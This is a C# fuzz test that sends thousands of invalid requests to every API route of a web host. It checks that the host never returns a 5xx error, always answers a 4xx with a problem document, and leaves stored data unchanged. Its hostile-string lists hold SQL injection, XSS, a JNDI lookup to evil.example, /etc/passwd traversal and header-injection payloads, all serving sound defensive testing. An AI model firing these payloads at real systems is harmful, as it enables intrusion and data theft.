using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Mvc.Testing;
using ServiceVision.Testing;

namespace ServiceVision.Host.Tests.Fuzz;

/// <summary>
/// Sends thousands of generated hostile requests (deterministic seed) to every /api route the host
/// serves, as an owner, an employee and anonymously: malformed and wrongly typed JSON, nulls,
/// oversized and deeply nested bodies, control characters, injection strings, bad ids in the path,
/// bad query strings, wrong content types and bad If-Match / Idempotency-Key headers. Every request
/// is built so that it cannot be valid. The host must never answer 5xx, must answer every 4xx with
/// a problem, and nothing the owner can read may change.
/// </summary>
public sealed partial class EveryRouteFuzzTests(PlatformFactory platform) : IClassFixture<PlatformFactory>
{
    private const int Seed = 20261125;

    /// <summary>Longer than every string bound of the API (the longest is 4,000), shorter than the body limit.</summary>
    private const int OverlongLength = 20_000;

    private static readonly string[] HostileStrings =
    [
        "' OR '1'='1' --",
        "'; DROP TABLE grain_state; --",
        "\"; SELECT pg_sleep(10); --",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../../../etc/passwd",
        "\0\u0001\u0002\u001b[31m\u007f",
        "\u202e\u200b\u200d\ufeff",
        "😀🏳️‍🌈𝕏",
        "\ud800",
        "\r\nSet-Cookie: sv_session=stolen",
        "%00%2e%2e%2f",
        "null",
    ];

    private static readonly string[] BadIds =
    [
        new string('a', 5000),
        "..",
        "..%2F..%2Fetc%2Fpasswd",
        "%00",
        "a%00b",
        "%2e%2e",
        Uri.EscapeDataString("' OR '1'='1"),
        Uri.EscapeDataString("<script>alert(1)</script>"),
        Uri.EscapeDataString("😀\u202e"),
        Uri.EscapeDataString("org_other/vision"),
        "unknown-id-12345",
    ];

    private static readonly string[] BadQueries =
    [
        "?page=-1", "?page=0", "?pageSize=1e9", "?pageSize=1000000000", "?page=abc&pageSize=-5",
        "?page=99999999999999999999", "?pageSize=%00", "?page=1&page=2",
    ];

    private static readonly string[] FilterNames = ["departmentId", "role", "locationId", "kind", "status", "memberId", "q"];

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Thousands_of_hostile_requests_to_every_route_never_get_a_5xx_always_get_a_problem_on_4xx_and_change_nothing()
    {
        // Rate limits and sign-in throttling have their own tests; here they would only turn later requests into 429s.
        var host = platform.WithWebHostBuilder(b => b
            .UseSetting("RateLimits:Enabled", "false")
            .UseSetting("SignIn:MaxFailuresPerIp", "1000000")
            .UseSetting("SignIn:MaxFailuresPerAccount", "1000000"));
        var world = await FuzzWorld.CreateAsync(platform, host);
        var routes = FuzzRoute.All(host.Services);
        // What the organization's members read (public, anonymous routes have limits of their own that the fuzzing uses up).
        var reads = routes.Where(r => r.Method == "GET" && !r.AllowsAnonymous).ToList();
        var before = await SettledSnapshotAsync(world, reads);

        var random = new Random(Seed);
        var cases = new List<FuzzCase>();
        foreach (var route in routes)
        {
            foreach (var identity in Enum.GetValues<Identity>())
            {
                // Signing out would end the fuzzing session; anonymously it changes nothing.
                if (route.Template.EndsWith("/sign-out", StringComparison.Ordinal) && identity != Identity.Anonymous)
                {
                    continue;
                }

                cases.AddRange(CasesFor(route, identity, world, random));
            }
        }

        var statuses = new ConcurrentDictionary<string, int>();
        var failures = new ConcurrentBag<string>();
        var clock = Stopwatch.StartNew();
        await Parallel.ForEachAsync(cases, new ParallelOptions { MaxDegreeOfParallelism = 4, CancellationToken = Cancel }, async (fuzz, cancel) =>
        {
            using var request = fuzz.Build();
            HttpResponseMessage sent;
            try
            {
                sent = await world.ClientOf(fuzz.Identity).SendAsync(request, cancel);
            }
            catch (InvalidOperationException error) when (error.Message.Contains("null characters", StringComparison.Ordinal))
            {
                // A decoded NUL in the path never reaches the app: the test server refuses it here, Kestrel answers 400 itself.
                statuses.AddOrUpdate("refused before the app", 1, (_, n) => n + 1);
                return;
            }

            using var response = sent;
            var status = (int)response.StatusCode;
            statuses.AddOrUpdate($"{status / 100}xx", 1, (_, n) => n + 1);
            var media = response.Content.Headers.ContentType?.MediaType;
            if (status >= 500)
            {
                failures.Add($"{fuzz}: {status} {await response.Content.ReadAsStringAsync(cancel)}");
            }
            else if (status < 300 && fuzz.Method != HttpMethod.Get && !fuzz.Path.EndsWith("/sign-out", StringComparison.Ordinal))
            {
                failures.Add($"{fuzz}: {status} accepted a request that cannot be valid: {await response.Content.ReadAsStringAsync(cancel)}");
            }
            else if (status >= 400 && media != "application/problem+json")
            {
                failures.Add($"{fuzz}: {status} answered with {media ?? "no body"} instead of a problem");
            }
        });

        var after = await SnapshotAsync(world, reads);
        var changes = before.Zip(after).Count(pair => pair.First != pair.Second);
        var output = TestContext.Current.TestOutputHelper;
        output?.WriteLine($"fuzz: {cases.Count} requests tried on {routes.Count} routes in {clock.Elapsed.TotalSeconds:F1} s; "
            + string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}: {s.Value}"))
            + $"; failures: {failures.Count}; changes: {changes}");

        foreach (var failure in failures.Take(30))
        {
            output?.WriteLine(failure.Length > 2000 ? failure[..2000] : failure);
        }

        Assert.True(cases.Count > 2000, $"only {cases.Count} requests generated");
        Assert.Empty(failures.Take(30));
        Assert.True(changes == 0, "changed: " + string.Join(" | ", after.Except(before)));
    }

    private static IEnumerable<FuzzCase> CasesFor(FuzzRoute route, Identity identity, FuzzWorld world, Random random)
    {
        var method = new HttpMethod(route.Method);
        var validPath = world.PathFor(route);

        // Bad ids in every parameter of the path: never found, whatever else the request says.
        if (route.Parameters.Count > 0)
        {
            foreach (var id in BadIds)
            {
                var segments = route.Template.Split('/').Select(s => s.StartsWith('{') ? id : s);
                yield return new FuzzCase(route, identity, method, string.Join('/', segments), "{}", "application/json");
            }
        }

        if (route.Method == "GET")
        {
            foreach (var query in BadQueries)
            {
                yield return new FuzzCase(route, identity, method, validPath + query);
            }

            foreach (var name in FilterNames)
            {
                yield return new FuzzCase(route, identity, method, $"{validPath}?{name}={Uri.EscapeDataString(Pick(random, HostileStrings))}");
            }

            yield return new FuzzCase(route, identity, method, $"{validPath}?departmentId={new string('x', 10_000)}");
            yield break;
        }

        // Routes without a body act on the resource the path names (publish, start, delete): only bad
        // ids are sure to be refused, so they get no more cases with valid ids.
        if (route.BodyType is null)
        {
            yield break;
        }

        var properties = route.BodyProperties;
        var ifMatch = route.Method is "PUT" or "DELETE" or "PATCH" ? Pick(random, ["", "garbage", "\"999999\"", "W/\"-1\"", new string('9', 500)]) : null;

        // Not JSON, or JSON of the wrong shape.
        foreach (var raw in new[] { "{", "[1, 2", "{\"a\": }", "null", "\"text\"", "42", "[]", "true", "{\"a\":1}}", "\u0000{}" })
        {
            yield return new FuzzCase(route, identity, method, validPath, raw, "application/json", ifMatch);
        }

        // Nesting deeper than the limit, at the root and inside a property.
        yield return new FuzzCase(route, identity, method, validPath, new string('[', 200) + new string(']', 200), "application/json", ifMatch);
        var firstName = properties.Count > 0 ? properties[0].Name : "name";
        yield return new FuzzCase(route, identity, method, validPath, $"{{\"{firstName}\": " + string.Concat(Enumerable.Repeat("{\"a\":", 100)) + "1" + new string('}', 101), "application/json", ifMatch);

        // Bodies over the size limit: 1 MB in a string, and 300 KB.
        yield return new FuzzCase(route, identity, method, validPath, JsonSerializer.Serialize(new Dictionary<string, string> { [firstName] = new string('x', 1024 * 1024) }), "application/json", ifMatch);
        yield return new FuzzCase(route, identity, method, validPath, JsonSerializer.Serialize(new Dictionary<string, string> { [firstName] = new string('y', 300 * 1024) }), "application/json", ifMatch);

        // Every property with a value of the wrong JSON type, one at a time.
        foreach (var (name, type) in properties)
        {
            foreach (var wrong in WrongValuesFor(type).Take(2))
            {
                var body = new JsonObject { [name] = wrong?.DeepClone() };
                yield return new FuzzCase(route, identity, method, validPath, body.ToJsonString(), "application/json", ifMatch);
            }
        }

        // Every property null.
        var nulls = new JsonObject();
        foreach (var (name, _) in properties)
        {
            nulls[name] = null;
        }

        // Some bodies may be all null (an empty vision draft is a valid start), so on creates the key
        // is malformed (refused before the handler runs) or, without idempotency, the last property has the wrong type.
        if (route.Method == "POST" && !route.Idempotent && properties.Count > 0)
        {
            nulls[properties[^1].Name] = WrongValuesFor(properties[^1].Type).First()?.DeepClone();
        }

        yield return new FuzzCase(route, identity, method, validPath, nulls.ToJsonString(), "application/json", ifMatch, route.Method == "POST" && route.Idempotent ? "bad key" : null);

        // Hostile strings (injection, control characters) padded past every string bound, in every string property.
        foreach (var hostile in HostileStrings.Take(5))
        {
            var body = new JsonObject();
            foreach (var (name, type) in properties)
            {
                body[name] = type == typeof(string) ? hostile + new string('z', OverlongLength) : WrongValuesFor(type).First()?.DeepClone();
            }

            yield return new FuzzCase(route, identity, method, validPath, body.ToJsonString(), "application/json", ifMatch);
        }

        // Wrong content types: a form post, plain text, XML, none.
        yield return new FuzzCase(route, identity, method, validPath, "name=x&role=Owner", "application/x-www-form-urlencoded", ifMatch);
        yield return new FuzzCase(route, identity, method, validPath, "{", "text/plain", ifMatch);
        yield return new FuzzCase(route, identity, method, validPath, "<a>1</a>", "application/xml", ifMatch);
        yield return new FuzzCase(route, identity, method, validPath, "{", null, ifMatch);

        // Bad Idempotency-Key headers, with a body that cannot be valid either.
        foreach (var key in new[] { new string('k', 500), "has spaces in it", "ünïcödé", "\t" })
        {
            yield return new FuzzCase(route, identity, method, validPath, "[]", "application/json", ifMatch, key);
        }

        // If-Match variants on updates (the body is invalid as well).
        if (ifMatch is not null)
        {
            foreach (var tag in new[] { "", "*", "\"abc\"", "\"1\", \"2\"", "W/" })
            {
                yield return new FuzzCase(route, identity, method, validPath, "{\"a\":", "application/json", tag);
            }
        }
    }

    private static IEnumerable<JsonNode?> WrongValuesFor(Type type)
    {
        var underlying = Nullable.GetUnderlyingType(type) ?? type;
        if (underlying == typeof(string) || underlying.IsEnum)
        {
            return [JsonValue.Create(12345), new JsonObject { ["nested"] = true }, new JsonArray(1, 2)];
        }

        if (underlying == typeof(int) || underlying == typeof(long) || underlying == typeof(double) || underlying == typeof(decimal))
        {
            return [JsonValue.Create("42"), JsonValue.Create(1e300), new JsonArray()];
        }

        if (underlying == typeof(bool))
        {
            return [JsonValue.Create("true"), JsonValue.Create(1)];
        }

        if (underlying == typeof(DateTimeOffset) || underlying == typeof(DateTime))
        {
            return [JsonValue.Create("not a date"), JsonValue.Create(20261125)];
        }

        return [JsonValue.Create("not an object or list"), JsonValue.Create(7)];
    }

    private static string Pick(Random random, string[] values) => values[random.Next(values.Length)];

    /// <summary>
    /// The snapshot once the consumers of the seeding (training assignments built from the published
    /// vision and the rollout) are done: two snapshots a second apart that agree.
    /// </summary>
    private static async Task<List<string>> SettledSnapshotAsync(FuzzWorld world, IReadOnlyList<FuzzRoute> reads)
    {
        var previous = await SnapshotAsync(world, reads);
        for (var attempt = 0; attempt < 30; attempt++)
        {
            await Task.Delay(1000, Cancel);
            var current = await SnapshotAsync(world, reads);
            if (current.SequenceEqual(previous))
            {
                return current;
            }

            previous = current;
        }

        throw new TimeoutException("The organization's views did not settle within 30 s: " + string.Join(" | ", previous.Except(await SnapshotAsync(world, reads))));
    }

    [GeneratedRegex("\"traceId\":\"[^\"]*\"")]
    private static partial Regex TraceId();

    /// <summary>Every GET the owner can make, with the world's ids: what must not change.</summary>
    private static async Task<List<string>> SnapshotAsync(FuzzWorld world, IReadOnlyList<FuzzRoute> reads)
    {
        var snapshot = new List<string>();
        foreach (var route in reads)
        {
            using var response = await world.Owner.GetAsync(new Uri(world.PathFor(route), UriKind.Relative), Cancel);
            // A problem's traceId differs on every request; it is not data.
            var body = TraceId().Replace(await response.Content.ReadAsStringAsync(Cancel), "");
            snapshot.Add($"{route} {(int)response.StatusCode} {body}");
        }

        return snapshot;
    }

    internal enum Identity
    {
        Owner,
        Employee,
        Anonymous,
    }

    private sealed record FuzzCase(
        FuzzRoute Route, Identity Identity, HttpMethod Method, string Path, string? Body = null, string? ContentType = null, string? IfMatch = null, string? IdempotencyKey = null)
    {
        public HttpRequestMessage Build()
        {
            var request = new HttpRequestMessage(Method, new Uri(Path, UriKind.Relative));
            if (Body is not null)
            {
                request.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(Body));
                if (ContentType is not null)
                {
                    request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
                }
            }

            if (IfMatch is { Length: > 0 })
            {
                request.Headers.TryAddWithoutValidation("If-Match", IfMatch);
            }

            if (IdempotencyKey is not null)
            {
                request.Headers.TryAddWithoutValidation("Idempotency-Key", IdempotencyKey);
            }

            return request;
        }

        public override string ToString() =>
            $"{Identity} {Method} {(Path.Length > 120 ? Path[..120] + "…" : Path)} [{ContentType}] body {(Body is null ? "none" : Body.Length > 80 ? Body[..80] + "…" : Body)}"
            + (IfMatch is null ? "" : $" If-Match {IfMatch}") + (IdempotencyKey is null ? "" : $" Idempotency-Key {IdempotencyKey[..Math.Min(20, IdempotencyKey.Length)]}");
    }

    /// <summary>An organization with an owner, an employee and one resource of the kinds the routes name.</summary>
    private sealed class FuzzWorld
    {
        private readonly IReadOnlyDictionary<string, string> ids;

        private FuzzWorld(HttpClient owner, HttpClient employee, HttpClient anonymous, IReadOnlyDictionary<string, string> ids)
        {
            Owner = owner;
            Employee = employee;
            Anonymous = anonymous;
            this.ids = ids;
        }

        public HttpClient Owner { get; }

        public HttpClient Employee { get; }

        public HttpClient Anonymous { get; }

        public HttpClient ClientOf(Identity identity) => identity switch
        {
            Identity.Owner => Owner,
            Identity.Employee => Employee,
            _ => Anonymous,
        };

        public static async Task<FuzzWorld> CreateAsync(PlatformFactory platform, WebApplicationFactory<Program> host)
        {
            var owner = host.CreateClient();
            var signedUp = await PostAsync(owner, "/api/v1/signup", new
            {
                organizationName = "Fuzz Org",
                slug = "fuzz-" + Guid.NewGuid().ToString("N")[..10],
                ownerName = "Olivia Owner",
                email = $"fuzz-owner-{Guid.NewGuid():N}@example.com",
                password = "correct horse battery staple",
            });
            var ids = new Dictionary<string, string>(StringComparer.Ordinal);

            var invited = await PostAsync(owner, "/api/v1/invitations", new { email = $"fuzz-employee-{Guid.NewGuid():N}@example.com", name = "Eve Employee", role = "Employee" });
            var employee = host.CreateClient();
            var accepted = await PostAsync(employee, "/api/v1/invitations/accept", new { token = invited.GetProperty("token").GetString(), password = "member password 1234" }, HttpStatusCode.OK);
            ids["members"] = accepted.GetProperty("memberId").GetString()!;

            ids["departments"] = Id(await PostAsync(owner, "/api/v1/departments", new { name = "Fuzz department" }));
            ids["invitations"] = Id(await PostAsync(owner, "/api/v1/invitations", new { email = $"fuzz-invitee-{Guid.NewGuid():N}@example.com", name = "Ian Invitee", role = "Employee" }));
            ids["api-keys"] = Id(await PostAsync(owner, "/api/v1/api-keys", new { name = "Fuzz key", role = "Leader" }));
            ids["observations"] = Id(await PostAsync(owner, "/api/v1/vision/observations", new { text = "Guests wait too long at the desk." }));
            var ownerSession = new ApiSession(owner, signedUp.GetProperty("organizationId").GetString()!, signedUp.GetProperty("memberId").GetString()!, "", "");
            var version = await platform.PublishVisionAsync(ownerSession, "Every guest leaves smiling, every single time.",
            [
                new { kind = "Pillar", text = "Personal touch", order = 0 },
                new { kind = "Standard", text = "Greet every guest by name", order = 1 },
            ]);
            ids["standard"] = version.GetProperty("items").EnumerateArray().First(i => i.GetProperty("kind").GetString() == "Standard").GetProperty("id").GetString()!;
            ids["drafts"] = Id(await PostAsync(owner, "/api/v1/vision/drafts", new { statement = "Every guest leaves happy.", items = Array.Empty<object>() }));
            ids["journeys"] = Id(await PostAsync(owner, "/api/v1/service-design/journeys", new
            {
                name = "Arrival",
                touchpoints = new[] { new { name = "Front door", channel = "InPerson", order = 0, affectedBy = new[] { new { departmentId = ids["departments"], role = "host" } }, standardItemIds = new[] { ids["standard"] } } },
            }));
            ids["journeyId"] = ids["journeys"];
            ids["rolloutId"] = Id(await PostAsync(owner, "/api/v1/training/rollouts", new { title = "Fuzz rollout", dueAt = DateTimeOffset.UtcNow.AddDays(14), audience = new { kind = "Everyone" } }));
            string? assignment = null;
            await Eventually.HoldsAsync(
                async () =>
                {
                    var mine = await owner.GetFromJsonAsync<JsonElement>("/api/v1/training/assignments", ApiSessions.Json, Cancel);
                    assignment = mine.GetProperty("total").GetInt32() > 0 ? mine.GetProperty("items")[0].GetProperty("id").GetString() : null;
                    return assignment is not null;
                },
                Eventually.Patience,
                "the training service assigns the rollout to the owner");
            ids["assignmentId"] = assignment!;
            ids["candidateId"] = Id(await PostAsync(owner, "/api/v1/hiring/candidates", new { name = "Casey Candidate", position = "Barista" }));
            var scorecard = await owner.GetFromJsonAsync<JsonElement>("/api/v1/hiring/scorecard", ApiSessions.Json, Cancel);
            ids["criterionId"] = scorecard.GetProperty("criteria").EnumerateArray().First().GetProperty("id").GetString()!;
            ids["questionId"] = Id(await PostAsync(owner, $"/api/v1/hiring/criteria/{ids["criterionId"]}/questions", new { text = "Tell me about a guest you helped?" }));
            ids["departmentId"] = ids["departments"];
            ids["courseId"] = "vision";
            ids["moduleId"] = "recall";
            ids["number"] = "1";
            return new FuzzWorld(owner, employee, host.CreateClient(), ids);
        }

        /// <summary>The route with this organization's ids; a parameter it has no resource for gets an id nobody has.</summary>
        public string PathFor(FuzzRoute route)
        {
            var segments = route.Template.Split('/');
            for (var i = 0; i < segments.Length; i++)
            {
                if (segments[i].StartsWith('{'))
                {
                    var name = segments[i].Trim('{', '}').Split(':')[0];
                    var key = name == "id" ? segments[i - 1] : name;
                    segments[i] = Uri.EscapeDataString(ids.TryGetValue(key, out var value) ? value : "none-" + key);
                }
            }

            return string.Join('/', segments);
        }

        private static string Id(JsonElement element) => element.GetProperty("id").GetString()!;

        private static async Task<JsonElement> PostAsync(HttpClient client, string path, object body, HttpStatusCode expected = HttpStatusCode.Created)
        {
            using var response = await client.PostAsJsonAsync(path, body, Cancel);
            await ApiSessions.EnsureAsync(response, expected);
            return await response.Content.ReadFromJsonAsync<JsonElement>(ApiSessions.Json, Cancel);
        }
    }
}
